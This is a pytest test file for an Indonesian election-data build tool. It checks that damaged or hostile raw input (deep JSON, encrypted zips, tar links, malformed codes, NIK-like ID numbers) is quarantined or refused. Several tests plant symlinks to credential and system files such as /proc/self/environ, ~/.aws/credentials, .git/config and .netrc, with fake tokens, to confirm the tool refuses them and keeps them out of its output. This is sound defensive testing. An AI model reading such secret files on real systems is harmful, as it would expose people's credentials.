"""Damaged raw input that used to crash a reader or load what it should refuse: each case is quarantined
(with ``records_in = records_loaded + records_quarantined``) or refused in one line, never a traceback."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import struct
import tarfile
import zipfile
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from conftest import query
from conftest import read as read_file
from releasekit.cli import cli
from releasekit.elections import CATALOGUE
from releasekit.privacy import holds_nik
from releasekit.readers import Region, Rejected, TpsResult
from releasekit.readers.numbers import parse_decimal

PPWP = CATALOGUE["ppwp-2024"]
NIK = "3471014101900001"  # NIK-like: region 347101, born 01-01-90 (a woman: day + 40)
MASKED = NIK[:6] + "*" * 10
TPS = {"chart": {"100025": 1, "100026": 2, "100027": 3}, "administrasi": None, "ts": "2024-02-15 10:00:00"}


#: The records a reader yields for a file of the project's ``raw/`` (so labelled in errors), read for PPWP 2024.
read = partial(read_file, election=PPWP, label_prefix="raw/")


def build(make_project: Any, runner: CliRunner, *sources: dict[str, Any],
          extra: dict[str, Any] | None = None) -> tuple[Path, Result]:
    project = make_project({"r": list(sources)}, extra)
    result = runner.invoke(cli, ["build", str(project)])
    assert "internal error" not in result.output
    return project, result


def accounts(project: Path) -> list[tuple[int, int, int]]:
    rows = query(project, "SELECT records_in, records_loaded, records_quarantined FROM sources ORDER BY path")
    assert all(n == loaded + quarantined for n, loaded, quarantined in rows)
    return rows


# --------------------------------------------------------------------------- deep nesting (orjson reads 1024 levels)

def test_a_region_list_element_nested_1000_deep_is_quarantined_alone(tmp_path: Path) -> None:
    (tmp_path / "0.json").write_text('[{"nama": "ACEH", "id": 1, "kode": "11", "tingkat": 1}, '
                                     + "[" * 1000 + "]" * 1000 + "]")
    aceh, deep = read("sirekap-wilayah-json", tmp_path)
    assert isinstance(aceh, Region) and aceh.kode_wilayah == "11"
    assert isinstance(deep, Rejected) and deep.locator == "0.json[1]" and "nested deeper than 64" in deep.reason


def test_a_region_list_element_without_kode_says_it_is_missing(tmp_path: Path) -> None:
    """Review BD D6: a TPS list of another shape (no ``kode`` key) had each of its 19,189 elements quarantined as
    'kode: expected a non-empty string'; the key is missing, and the reason says so."""
    (tmp_path / "0.json").write_text('[{"nama": "TPS 001", "kode_tps": "1101012001001"}, '
                                     '{"nama": "ACEH", "id": 1, "kode": "", "tingkat": 1}]')
    missing, empty = read("sirekap-wilayah-json", tmp_path)
    assert isinstance(missing, Rejected) and missing.reason.startswith("kode: missing (a Sirekap region-list element")
    assert isinstance(empty, Rejected) and empty.reason == "kode: expected a non-empty string"


@pytest.mark.parametrize("name, text", [
    ("1101012001001.json", '{"chart": null, "administrasi": {"suara_sah": ' + "[" * 1010 + "]" * 1010 + "}}"),
    ("1101012001001.json", '{"chart": {"100025": ' + "[" * 1000 + "]" * 1000 + "}}"),
    ("1101012001001.json", '{"chart": null, "status_suara": ' + "[" * 1000 + "]" * 1000 + "}"),
    ("x.jsonl", '{"path": ' + "[" * 1000 + "]" * 1000 + ', "chart": null}\n'),
    ("x.jsonl", '{"kode_tps": ' + "[" * 1000 + "]" * 1000 + ', "chart": null}\n'),
])
def test_a_tps_record_nested_1000_deep_is_quarantined(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    (record,) = read("sirekap-tps-json", tmp_path)
    assert isinstance(record, Rejected)


def test_a_tps_code_written_as_a_number_in_json_lines_still_reads(tmp_path: Path) -> None:
    (tmp_path / "x.jsonl").write_text(json.dumps({**TPS, "kode_tps": 1101012001001}) + "\n")
    (record,) = read("sirekap-tps-json", tmp_path)
    assert isinstance(record, TpsResult) and record.kode_tps == "1101012001001"


# --------------------------------------------------------------------------- zip members that cannot be read

def _zip(method: int | None = None, encrypted: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        out.writestr("1101012001001.json", json.dumps(TPS))
        out.writestr("1101012001002.json", json.dumps(TPS))
    data = bytearray(buf.getvalue())
    local, central = 0, data.find(b"PK\x01\x02")  # the first member's local and central headers
    if method is not None:
        data[local + 8:local + 10] = data[central + 10:central + 12] = struct.pack("<H", method)
    if encrypted:
        data[local + 6:local + 8] = data[central + 8:central + 10] = struct.pack("<H", 1)
    return bytes(data)


@pytest.mark.parametrize("archive, reason", [
    (_zip(encrypted=True), "zip member is encrypted"),
    (_zip(method=99), "zip member uses an unsupported compression"),  # 99: AES, which zipfile cannot read
])
def test_an_unreadable_zip_member_is_quarantined(tmp_path: Path, archive: bytes, reason: str) -> None:
    (tmp_path / "t.zip").write_bytes(archive)
    first, second = read("sirekap-tps-json", tmp_path / "t.zip")
    assert isinstance(first, Rejected) and first.locator == "1101012001001.json" and reason in first.reason
    assert isinstance(second, TpsResult)


# --------------------------------------------------------------------------- tar members that are no file

@pytest.mark.parametrize("suffix", [".tar.gz", ".tar.bz2"])  # the fast reader (tarstream) and tarfile's
def test_a_link_or_device_in_a_tar_is_quarantined_not_skipped(tmp_path: Path, suffix: str) -> None:
    """GNU tar stores a second copy of a file as a hard link: its TPS would vanish without a trace."""
    folder = tmp_path / "p"
    folder.mkdir()
    (folder / "1101012001001.json").write_text(json.dumps(TPS))
    os.link(folder / "1101012001001.json", folder / "1101012001002.json")
    (folder / "1101012001003.json").symlink_to("1101012001001.json")
    os.mkfifo(folder / "pipe")
    archive = tmp_path / f"t{suffix}"
    with tarfile.open(archive, "w:gz" if suffix == ".tar.gz" else "w:bz2") as tar:
        tar.add(folder, "p")
    records = read("sirekap-tps-json", archive)
    assert [type(r).__name__ for r in records] == ["TpsResult", "Rejected", "Rejected", "Rejected"]
    link, symlink, pipe = records[1:]
    assert isinstance(link, Rejected) and isinstance(symlink, Rejected) and isinstance(pipe, Rejected)
    assert (link.locator, symlink.locator, pipe.locator) == ("p/1101012001002.json", "p/1101012001003.json", "p/pipe")
    assert link.reason.startswith("tar member is a hard link to 'p/1101012001001.json', not a file")
    assert symlink.reason.startswith("tar member is a symbolic link to '1101012001001.json', not a file")
    assert pipe.reason.startswith("tar member is a named pipe, not a file")


# --------------------------------------------------------------------------- codes checked whole

@pytest.mark.parametrize("kode, loads", [
    ("3401012001001", True), ("99BE010001001", True),  # overseas codes have letters after 99
    ("3401012001001\n", False),  # a line break at the end: "$" alone passes it, a second code for one TPS
    ("340101200100O", False),  # the letter O for a zero in a domestic code
])
def test_a_tps_code_is_checked_whole(tmp_path: Path, kode: str, loads: bool) -> None:
    (tmp_path / "x.jsonl").write_text(json.dumps({**TPS, "kode_tps": kode}) + "\n")
    (record,) = read("sirekap-tps-json", tmp_path)
    assert isinstance(record, TpsResult) is loads
    if not loads:
        assert isinstance(record, Rejected) and "is a TPS code (13 digits; letters only overseas" in record.reason
    element = {"nama": "TPS 001", "id": 1, "kode": kode, "tingkat": 5}
    (tmp_path / "x.jsonl").unlink()
    (tmp_path / f"{kode[:10]}.json").write_text(json.dumps([element]))  # (its village's list)
    (station,) = read("sirekap-wilayah-json", tmp_path)
    assert isinstance(station, Rejected) is not loads


@pytest.mark.parametrize("kode", ["12\n", "1\n2"])
def test_a_region_or_area_code_is_checked_whole(tmp_path: Path, kode: str) -> None:
    (tmp_path / "0.json").write_text(json.dumps([{"nama": "X", "id": 1, "kode": kode, "tingkat": 1}]))
    (region,) = read("sirekap-wilayah-json", tmp_path)
    assert isinstance(region, Rejected) and "is not a region code" in region.reason
    (tmp_path / "0.json").unlink()
    chart = {"100025": 1, "100026": 2, "100027": 3}
    (tmp_path / "ppwp.json").write_text(json.dumps({"chart": chart, "table": {kode: chart}}))
    (area,) = read("sirekap-aggregate-json", tmp_path)
    assert isinstance(area, Rejected) and "expected an area code" in area.reason


# --------------------------------------------------------------------------- region codes with non-ASCII digits

def test_full_width_digits_in_a_region_code_quarantine_the_row(make_project: Any, cli_runner: CliRunner) -> None:
    project, result = build(make_project, cli_runner, {
        "raw": {"w.csv": "kode,nama\n31,DKI JAKARTA\n３１０１,KEP SERIBU\n"}, "format": "csv",
        "csv": {"table": "wilayah", "fields": {"kode_wilayah": "kode", "nama": "nama"}}})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah FROM wilayah") == [("31",)]
    assert query(project, "SELECT locator, reason FROM quarantine") == [
        ("w.csv:3", "kode_wilayah: '３１０１' has '３' at position 1 where a digit belongs")]
    assert accounts(project) == [(2, 1, 1)]


def test_full_width_digits_are_no_ballot_number(make_project: Any, cli_runner: CliRunner) -> None:
    project, result = build(make_project, cli_runner, {
        "raw": {"l.csv": "kode,calon,suara\n3101011001001,1,5\n3101011001001,３,7\n"}, "format": "csv",
        "election": "ppwp-2024", "snapshot": "2024-02-16",
        "csv": {"table": "hasil_tps", "fields": {"kode_tps": "kode"}, "long": {"candidate": "calon",
                                                                               "count": "suara"}}})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT nomor_urut, suara FROM suara") == [(1, 5)]
    (reason,), = query(project, "SELECT reason FROM quarantine")
    assert "'３' is not a ballot number" in reason


# --------------------------------------------------------------------------- Kemendagri SQL: the next tuple reads on

def test_a_broken_tuple_does_not_take_the_rest_of_its_line(tmp_path: Path) -> None:
    (tmp_path / "w.sql").write_text("INSERT INTO wilayah (kode, nama) VALUES ('11','ACEH'),('11.01','KAB X'Y'),"
                                    "('11.02','KAB Z'),('11.03','KAB W');\nINSERT INTO wilayah VALUES ('12','B'),"
                                    "('12.01','C'D');\nINSERT INTO wilayah VALUES ('13','E');\n")
    records = read("kemendagri-wilayah-sql", tmp_path)
    assert [r.kode_wilayah if isinstance(r, Region) else r.raw for r in records] == [  # type: ignore[attr-defined]
        "11", "('11.01','KAB X'Y')", "1102", "1103", "12", "('12.01','C'D')", "13"]


# --------------------------------------------------------------------------- symbolic links in a folder source

def test_a_symlinked_folder_inside_a_folder_source_is_refused(make_project: Any, cli_runner: CliRunner,
                                                              tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "1101012001001.json").write_text(json.dumps(TPS))
    project = make_project({"r": [{"raw": {"1101012001002.json": TPS}, "name": "tps", "format": "sirekap-tps-json",
                                   "election": "ppwp-2024", "snapshot": "2024-02-15"}]})
    (project / "raw" / "tps" / "linked").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "internal error" not in result.output
    error = result.output.strip().splitlines()[-1]
    assert error.startswith("Error: raw/tps/linked: a symbolic link to a folder") and "(hint: " in error


@pytest.mark.parametrize("secret", [".aws/credentials", ".env", "/proc/self/environ"])
def test_a_link_in_a_folder_source_to_a_system_or_hidden_file_outside_the_project_is_refused(
        make_project: Any, cli_runner: CliRunner, tmp_path: Path, secret: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Review BB #2, BE #2, #4, #5: an export unpacked into raw/ may bring links; one to /proc/self/environ or a
    private key was read, quarantined (not a TPS result) and its text published in quarantine.csv. Such a link is
    refused before anything is read (/proc/self/pagemap was hashed for ever). A link to a file elsewhere in the
    project (a day's unchanged capture linked to the day before), or to an export kept outside it, is read."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    target = Path(secret) if secret.startswith("/") else tmp_path / "home" / secret
    if not secret.startswith("/"):
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("MY_CI_TOKEN=ghp_secret\n")
    (tmp_path / "exports").mkdir()
    (tmp_path / "exports" / "1101012001005.json").write_text(json.dumps(TPS))
    project = make_project({"r": [{"raw": {"1101012001002.json": TPS}, "name": "tps", "format": "sirekap-tps-json",
                                   "election": "ppwp-2024", "snapshot": "2024-02-15"},
                                  {"raw": {"1101012001001.json": TPS}, "name": "day2", "format": "sirekap-tps-json",
                                   "election": "ppwp-2024", "snapshot": "2024-02-16"}]})
    (project / "raw" / "tps" / "1101012001003.json").symlink_to("1101012001002.json")
    (project / "raw" / "day2" / "1101012001002.json").symlink_to("../tps/1101012001002.json")
    (project / "raw" / "tps" / "1101012001005.json").symlink_to(tmp_path / "exports" / "1101012001005.json")
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT snapshot, kode_tps FROM hasil_tps ORDER BY 1, 2") == [
        ("2024-02-15", "1101012001002"), ("2024-02-15", "1101012001003"), ("2024-02-15", "1101012001005"),
        ("2024-02-16", "1101012001001"), ("2024-02-16", "1101012001002")]
    (project / "raw" / "tps" / "1101012001004.json").symlink_to(target)
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "internal error" not in result.output and "ghp_secret" not in result.output
    error = result.output.strip().splitlines()[-1]
    why = "a file of the operating system" if secret.startswith("/") else \
        f"a hidden file or a file in a hidden folder ({secret.split('/')[0]}), where keys and credentials may be kept"
    assert error.startswith(f"Error: raw/tps/1101012001004.json: leads to {target.resolve()}, {why}, "
                            "not a raw export"), error
    assert "(hint: remove the link, or copy the file it stands for into the project)" in error
    assert not any("ghp_secret" in f.read_text(errors="replace") for f in (project / "datapackages").rglob("*.csv"))


@pytest.mark.parametrize("secret", ["/proc/self/environ", "/etc/passwd", "home/.aws/credentials", "home/.netrc"])
def test_a_source_leading_to_a_system_or_hidden_file_outside_the_project_is_refused(
        make_project: Any, cli_runner: CliRunner, tmp_path: Path, secret: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Review BB #2, BE #2: ``raw/provinces.csv -> /proc/self/environ`` (or ``~/.aws/credentials``, ``/etc/passwd``)
    published the build's environment, or the file, line by line in the quarantine."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    target = Path(secret) if secret.startswith("/") else tmp_path / secret
    if not secret.startswith("/"):
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("aws_secret_access_key=AKIAFAKESECRET123\n")
    project = make_project({"r": [{"path": "raw/provinces.csv", "format": "kpu-wilayah-csv"}]})
    (project / "raw" / "provinces.csv").symlink_to(target)
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "internal error" not in result.output and "AKIA" not in result.output
    error = result.output.strip().splitlines()[-1]
    assert f"registers/0/sources/0/path: 'raw/provinces.csv' leads to {target.resolve()}, a " in error
    assert ("of the operating system" if secret.startswith("/") else "a file in a hidden folder (.") in error


def test_a_link_loop_in_a_folder_source_is_named_as_the_project_names_it(make_project: Any,
                                                                          cli_runner: CliRunner) -> None:
    """Review BG L4: ``raw/tps/a.json -> b.json -> a.json`` was refused with the builder's absolute path."""
    project = make_project({"r": [{"raw": {"1101012001002.json": TPS}, "name": "tps", "format": "sirekap-tps-json",
                                   "election": "ppwp-2024", "snapshot": "2024-02-15"}]})
    (project / "raw" / "tps" / "a.json").symlink_to("b.json")
    (project / "raw" / "tps" / "b.json").symlink_to("a.json")
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "internal error" not in result.output, result.output
    assert result.output.strip().splitlines()[-1].startswith(
        "Error: raw/tps/a.json: cannot be followed (Too many levels of symbolic links: a symbolic link that leads "
        "back to itself?)"), result.output


@pytest.mark.parametrize("secret", [".git/config", ".env"])
def test_a_link_to_a_hidden_file_of_the_project_itself_is_refused(make_project: Any, cli_runner: CliRunner,
                                                                  secret: str) -> None:
    """Review BF H2: ``raw/provinces.csv -> ../.git/config`` published the token GitHub's checkout writes there
    (``extraheader = AUTHORIZATION: basic …``), in ``reason`` and in ``raw``; ``-> ../.env`` likewise. A file of
    git-annex's content store (``.git/annex/objects/…``) is data, and is read."""
    project = make_project({"r": [{"path": "raw/provinces.csv", "format": "kpu-wilayah-csv"},
                                  {"path": "raw/regencies.csv", "format": "kpu-wilayah-csv"}]})
    hidden = project / secret
    hidden.parent.mkdir(parents=True, exist_ok=True)
    hidden.write_text("extraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW4=\n")
    annexed = project / ".git" / "annex" / "objects" / "Xy" / "SHA256E-s8--ab.csv"
    annexed.parent.mkdir(parents=True)
    annexed.write_text("1101,11,ACEH SELATAN\n")
    (project / "raw" / "regencies.csv").symlink_to(annexed)
    (project / "raw" / "provinces.csv").symlink_to(os.path.relpath(hidden, project / "raw"))
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "AUTHORIZATION" not in result.output, result.output
    assert f"'raw/provinces.csv' leads to {hidden.resolve()}, a hidden file or a file in a hidden folder " \
           f"({secret.split('/')[0]})" in result.output
    (project / "raw" / "provinces.csv").unlink()
    (project / "raw" / "provinces.csv").write_text("11,ACEH\n")
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah FROM wilayah ORDER BY 1") == [("11",), ("1101",)]


def test_a_folder_source_reached_through_a_link_may_hold_no_hidden_file(make_project: Any, cli_runner: CliRunner,
                                                                        tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """Review BF H1: ``raw/tps -> ~`` passed (the home folder is no hidden one), and ``~/.docker/config.json``, a
    plain file in it, was read and its text published. In a folder reached through a link out of the project, every
    file is judged; the files macOS adds (never read) are not refused."""
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    (home / ".docker").mkdir(parents=True)
    (home / ".docker" / "config.json").write_text('{"auths": {"x": {"auth": "dXNlcjpTRUNSRVQ="}}}')
    (home / "1101012001001.json").write_text(json.dumps(TPS))
    (home / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    project = make_project({"r": [{"path": "raw/tps", "format": "sirekap-tps-json", "election": "ppwp-2024",
                                   "snapshot": "2024-02-15"}]})
    (project / "raw" / "tps").symlink_to(home, target_is_directory=True)
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "dXNl" not in result.output, result.output
    assert f"Error: raw/tps/.docker/config.json: leads to {(home / '.docker' / 'config.json').resolve()}, a hidden " \
           "file or a file in a hidden folder (.docker)" in result.output
    (home / ".docker" / "config.json").unlink()
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_tps FROM hasil_tps") == [("1101012001001",)]


def test_a_source_may_lead_to_shared_memory(make_project: Any, cli_runner: CliRunner) -> None:
    """Review BE #7: /dev/shm, where CI jobs keep scratch files, is no file of the operating system."""
    import tempfile

    shm = Path("/dev/shm")
    if not shm.is_dir() or not os.access(shm, os.W_OK):
        pytest.skip("no writable /dev/shm")
    with tempfile.TemporaryDirectory(dir=shm) as folder:
        (Path(folder) / "provinces.csv").write_text("11,ACEH\n")
        project = make_project({"r": [{"path": "raw/provinces.csv", "format": "kpu-wilayah-csv"}]})
        (project / "raw" / "provinces.csv").symlink_to(Path(folder) / "provinces.csv")
        result = cli_runner.invoke(cli, ["build", str(project)])
        assert result.exit_code == 0, result.output
        assert query(project, "SELECT kode_wilayah, nama FROM wilayah") == [("11", "ACEH")]


def test_a_source_that_is_a_link_is_named_as_metadata_yml_names_it(make_project: Any, cli_runner: CliRunner,
                                                                     tmp_path: Path) -> None:
    """Review W #1: ``raw/`` may hold a link to an export kept elsewhere, and a source that is one was read under
    the name of the file it leads to: a Sirekap TPS file's code came from that name (``export.json``: "not a TPS
    code"), a quarantined record's locator named it, and an incremental build (whose cache keys the path as
    written) disagreed with a clean one once the link led to an identical file of another name."""
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "export.json").write_text(json.dumps(TPS))
    (tmp_path / "elsewhere" / "1101012001009.json").write_text(json.dumps(TPS))
    (tmp_path / "elsewhere" / "day.jsonl").write_text(json.dumps({"kode_tps": "1101012001002", **TPS}) + "\n{cut\n")
    project = make_project({"r": [
        {"path": "raw/1101012001001.json", "format": "sirekap-tps-json", "election": "ppwp-2024",
         "snapshot": "2024-02-15"},
        {"path": "raw/tps_day.jsonl", "format": "sirekap-tps-json", "election": "ppwp-2024",
         "snapshot": "2024-02-16"}]})
    (project / "raw" / "1101012001001.json").symlink_to(tmp_path / "elsewhere" / "export.json")
    (project / "raw" / "tps_day.jsonl").symlink_to(tmp_path / "elsewhere" / "day.jsonl")

    def loaded() -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]:
        return (query(project, "SELECT sumber, kode_tps FROM hasil_tps ORDER BY 1, 2"),
                query(project, "SELECT source, locator FROM quarantine ORDER BY 1, 2"))

    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 0, result.output
    expected = ([("raw/1101012001001.json", "1101012001001"), ("raw/tps_day.jsonl", "1101012001002")],
                [("raw/tps_day.jsonl", "tps_day.jsonl:2")])
    assert loaded() == expected
    (project / "raw" / "1101012001001.json").unlink()  # the same bytes under another name: the same release
    (project / "raw" / "1101012001001.json").symlink_to(tmp_path / "elsewhere" / "1101012001009.json")
    for options in ([], ["--clean"]):
        result = cli_runner.invoke(cli, ["build", *options, str(project)])
        assert result.exit_code == 0, result.output
        assert loaded() == expected


def test_a_source_that_is_a_link_loop_is_refused_in_one_line(make_project: Any, cli_runner: CliRunner) -> None:
    """Review Z #6: a link in raw/ leading back to itself stopped the build with an internal error."""
    project = make_project({"r": [{"path": "raw/1101012001001.json", "format": "sirekap-tps-json",
                                   "election": "ppwp-2024", "snapshot": "2024-02-15"}]})
    (project / "raw" / "1101012001001.json").symlink_to("loopy")
    (project / "raw" / "loopy").symlink_to("1101012001001.json")
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "internal error" not in result.output
    error = result.output.strip().splitlines()[-1]
    assert error.startswith("Error: ") and "sources/0/path: 'raw/1101012001001.json' cannot be followed" in error
    assert "(hint: " in error


@pytest.mark.parametrize("make", ["broken link", "pipe"])
def test_what_is_no_file_inside_a_folder_source_is_refused(make_project: Any, cli_runner: CliRunner,
                                                           tmp_path: Path, make: str) -> None:
    project = make_project({"r": [{"raw": {"1101012001002.json": TPS}, "name": "tps", "format": "sirekap-tps-json",
                                   "election": "ppwp-2024", "snapshot": "2024-02-15"}]})
    odd = project / "raw" / "tps" / "1101012001001.json"
    if make == "pipe":
        os.mkfifo(odd)  # reading it would wait for a writer forever
    else:
        odd.symlink_to(tmp_path / "gone.json")
    result = cli_runner.invoke(cli, ["build", str(project)])
    assert result.exit_code == 1 and "internal error" not in result.output
    assert result.output.strip().splitlines()[-1].startswith("Error: raw/tps/1101012001001.json: not a readable file")


# --------------------------------------------------------------------------- decimals read in the declared style

@pytest.mark.parametrize("text, style, value", [
    ("78,83", "dot", 78.83), ("1.234,5", "dot", 1234.5), ("100", "dot", 100.0), ("-3,5", "dot", -3.5),
    ("78.83", "plain", 78.83), ("24.4962%", "plain", 24.4962), ("1,234.5", "comma", 1234.5),
    ("78.50", "accounting", 78.5), ("", "dot", None),
])
def test_parse_decimal_reads_the_declared_style(text: str, style: str, value: float | None) -> None:
    assert parse_decimal(text, style) == value


@pytest.mark.parametrize("text, style", [
    ("78.5", "dot"), ("7.8.3", "dot"), ("1.2345", "dot"), ("1,5", "comma"), ("1,5", "accounting"),
    ("78,5", "plain"), ("1.2.3", "plain"), ("1" * 400, "plain"), ("١٢", "plain"),
])
def test_parse_decimal_refuses_what_the_style_does_not_write(text: str, style: str) -> None:
    with pytest.raises(ValueError):
        parse_decimal(text, style)


def test_a_decimal_dot_in_a_dot_thousands_source_is_quarantined(make_project: Any, cli_runner: CliRunner) -> None:
    project, result = build(make_project, cli_runner, {
        "raw": {"a.csv": "kode,sah,persen\n3471,100,78.5\n3472,200,\"78,5\"\n"}, "format": "csv",
        "election": "ppwp-2024", "snapshot": "2024-02-15",
        "csv": {"table": "hasil_wilayah", "numbers": "dot",
                "fields": {"kode_wilayah": "kode", "suara_sah": "sah", "persen": "persen"}}})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah, persen FROM hasil_wilayah") == [("3472", 78.5)]
    (reason,), = query(project, "SELECT reason FROM quarantine")
    assert "'78.5' is not a decimal number in dot style" in reason


# --------------------------------------------------------------------------- NIK-like area codes

def _no_nik(project: Path) -> None:
    assert NIK not in str(query(project, "SELECT * FROM quarantine"))  # masked, in locator, reason and raw


def test_a_nik_like_area_code_in_a_csv_is_quarantined(make_project: Any, cli_runner: CliRunner) -> None:
    project, result = build(make_project, cli_runner, {
        "raw": {"a.csv": f"kode,sah\n3471,100\n{NIK},5\n34.71.01.1001,7\n"}, "format": "csv",
        "election": "ppwp-2024", "snapshot": "2024-02-15",
        "csv": {"table": "hasil_wilayah", "fields": {"kode_wilayah": "kode", "suara_sah": "sah"}}})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah FROM hasil_wilayah ORDER BY 1") == [("34.71.01.1001",), ("3471",)]
    (reason,), = query(project, "SELECT reason FROM quarantine")
    assert "has 16 digits or letters; an area code has at most 10 (a village), or 13 (a TPS)" in reason
    _no_nik(project)
    assert accounts(project) == [(3, 2, 1)]


def test_a_nik_like_kecamatan_id_in_pemiluapi_2004_is_quarantined(make_project: Any, cli_runner: CliRunner) -> None:
    text = f"id,entity_type,entity_id,sub_districts_id,voice,description\n1,Party,1,1,505,x\n2,Party,1,{NIK},7,x\n"
    election = {"kode_pemilu": "dpr-2004", "jenis": "dpr", "tahun": 2004, "tanggal": "2004-04-05",
                "peserta": [{"nomor_urut": 1, "nama": "Partai A"}]}
    project, result = build(make_project, cli_runner, {
        "raw": {"recapitulations.csv": text}, "format": "pemiluapi-2004-csv", "election": "dpr-2004",
        "snapshot": "2004-04-05"}, extra={"elections": [election]})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah FROM hasil_wilayah") == [("1",)]
    (reason,), = query(project, "SELECT reason FROM quarantine")
    assert "is not a kecamatan id" in reason
    _no_nik(project)


def test_a_nik_like_area_in_a_sirekap_aggregate_is_quarantined(make_project: Any, cli_runner: CliRunner) -> None:
    chart = {"100025": 1, "100026": 2, "100027": 3, "persen": 100.0}
    project, result = build(make_project, cli_runner, {
        "raw": {"3471.json": {"chart": chart, "table": {NIK: {**chart, "status_progress": True}}},
                f"{NIK}.json": {"chart": chart, "table": {}},
                "3471011001.json": {"chart": chart, "table": {"3471011001001": {**chart, "status_progress": True}}}},
        "format": "sirekap-aggregate-json", "election": "ppwp-2024", "snapshot": "2024-02-15"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah FROM hasil_wilayah ORDER BY 1") == [("3471011001",),
                                                                                   ("3471011001001",)]
    assert sorted(r for (r,) in query(project, "SELECT reason FROM quarantine")) == [
        "file name '3471014101900001' is not an area code".replace(NIK, NIK[:6] + "*" * 10),
        "table.3471014101900001: expected an area code and an object".replace(NIK, NIK[:6] + "*" * 10)]
    _no_nik(project)


def test_a_child_that_is_no_sub_area_of_its_file_is_quarantined(make_project: Any, cli_runner: CliRunner) -> None:
    """A table child must be an area of the file's own one level down: a Jakarta district in Aceh Selatan's file,
    or a code with a letter O, loaded as areas of their own (review L #7)."""
    chart = {"100025": 1, "100026": 2, "100027": 3, "persen": 100.0}
    child = {**chart, "status_progress": True}
    project, result = build(make_project, cli_runner, {
        "raw": {"1101.json": {"chart": chart, "table": {"110101": child, "317101": child}},
                "1102.json": {"chart": chart, "table": {"110201": child, "11O201": child}},
                "1103.json": {"chart": chart, "table": {"110301": child, "1103011001": child}},
                "1104.json": {"chart": chart, "table": {"110401": child}}},
        "format": "sirekap-aggregate-json", "election": "ppwp-2024", "snapshot": "2024-02-15"})
    assert result.exit_code == 0, result.output
    assert query(project, "SELECT kode_wilayah FROM hasil_wilayah ORDER BY 1") == [("1104",), ("110401",)]
    assert query(project, "SELECT locator, reason FROM quarantine ORDER BY 1") == [
        ("1101.json", "table.317101: not an area of 1101 one level down (a code of 6 characters starting with its "
                      "own)"),
        ("1102.json", "table.11O201: not an area of 1102 one level down (a code of 6 characters starting with its "
                      "own)"),
        ("1103.json", "table.1103011001: not an area of 1103 one level down (a code of 6 characters starting with "
                      "its own)")]


def test_a_nik_like_count_quarantines_its_record(make_project: Any, cli_runner: CliRunner) -> None:
    """A count is a number, yet 16 digits in it would be published as text: the loader quarantines its record (a
    vote, a figure, negative too) instead of the PII gate refusing the whole build over a derived row."""
    figures = {"suara_sah": 6, "suara_tidak_sah": 0, "suara_total": 6}
    project, result = build(make_project, cli_runner, {
        "raw": {"3471011001001.json": TPS,
                "3471011001002.json": {**TPS, "chart": {**TPS["chart"], "100026": int(NIK)}},
                "3471011001003.json": {**TPS, "administrasi": {**figures, "suara_sah": -int(NIK)}},
                "3471011001004.json": {**TPS, "administrasi": {**figures, "suara_total": float(NIK)}}},
        "format": "sirekap-tps-json", "election": "ppwp-2024", "snapshot": "2024-02-15"}, {
        "raw": {"a.csv": f"kode,sah,persen\n3471,100,1.5\n3472,{NIK},1.5\n3473,7,{100 * 1 / 139}\n"},
        "format": "csv", "election": "ppwp-2024", "snapshot": "2024-02-15",
        "csv": {"table": "hasil_wilayah", "fields": {"kode_wilayah": "kode", "suara_sah": "sah",
                                                     "persen": "persen"}}})
    assert result.exit_code == 0, result.output  # the PII gate found nothing left to refuse
    assert query(project, "SELECT kode_tps FROM hasil_tps") == [("3471011001001",)]
    assert query(project, "SELECT kode_wilayah FROM hasil_wilayah") == [("3471",)]
    reasons = [r for (r,) in query(project, "SELECT reason FROM quarantine ORDER BY source, locator")]
    nik_like = "cannot be stored: a number is NIK-like (16 digits), which is never published"
    assert reasons == [nik_like, nik_like, f"administrasi.suara_total: expected an integer or null, got {MASKED}.0",
                       nik_like, nik_like]  # (the reader's own reason for a float, masked; 0.7194244604316546)
    _no_nik(project)
    assert accounts(project) == [(4, 1, 3), (3, 1, 2)]  # (by path: the JSON folder, then the CSV)


def test_a_nik_like_number_in_any_text_value_quarantines_its_record(make_project: Any, cli_runner: CliRunner) -> None:
    """No reader checks Sirekap's free-text ``psu`` note or a region list's names: the loader does, for every reader."""
